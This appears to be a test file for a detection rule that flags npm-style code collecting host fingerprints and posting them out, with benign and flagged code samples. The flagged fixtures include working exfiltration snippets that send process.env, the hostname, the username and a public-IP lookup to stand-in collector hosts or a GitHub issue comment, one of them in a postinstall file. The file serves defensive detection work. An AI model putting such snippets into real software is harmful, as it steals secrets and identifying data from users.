import { ruleTest } from '../../testing/rule-tester.js';
import rule from './host-fingerprint-upload.js';

ruleTest(rule, {
  clean: [
    {
      name: 'CLI config in the home directory, fetching updates',
      file: 'bin/cli.js',
      code: `const os = require('os'), path = require('path');
const cfg = path.join(os.homedir(), '.mycli.json');
fetch('https://registry.npmjs.org/mycli/latest').then((r) => r.json());
`,
    },
    {
      name: 'telemetry with platform and version',
      file: 'src/telemetry.ts',
      code: `import os from 'os';
export const send = (event: string) => fetch('https://telemetry.example.org/v1', { method: 'POST', body: JSON.stringify({ event, platform: os.platform(), arch: os.arch(), node: process.version }) });
`,
    },
    {
      name: 'dev server printing hostname (no send)',
      file: 'server.js',
      code: `const os = require('os');\nconsole.log('listening on', os.hostname(), process.env.PORT);\n`,
    },
  ],
  flagged: [
    {
      name: 'env + hostname + user posted',
      file: 'index.js',
      code: `const os = require('os');\nrequire('axios').post('https://collector.example.net/e', { h: os.hostname(), u: os.userInfo().username, env: JSON.stringify(process.env) });\n`,
      findings: [{ line: 2, severity: 'critical', confidence: 'high', message: /host name, user name, the whole environment/ }],
    },
    {
      name: 'lodashs-style fingerprint + ip lookup + post',
      file: 'update.js',
      code: `const os = require('os'), https = require('https');
const c = os.userInfo();
const fp = Buffer.from(c.username + c.homedir + os.cpus()[0].model).toString('base64');
https.get('https://ifconfig.co/json', (r) => {});
https.request({ hostname: 'api.github.com', path: '/repos/x/y/issues/4/comments', method: 'POST' }).end(JSON.stringify({ body: fp + os.hostname() }));
`,
      findings: [{ line: 5, severity: 'critical', confidence: 'high', message: /host name, user name, public IP lookup, OS\/CPU\) via https\.request/ }],
    },
    {
      name: 'env dump posted with axios (low alone; install-time autorun raises it)',
      file: 'postinstall.js',
      code: `const axios = require('axios');\naxios.post('https://collector.example.net/e', { env: JSON.stringify(process.env) });\n`,
      findings: [{ line: 2, severity: 'low', confidence: 'low' }],
    },
  ],
});
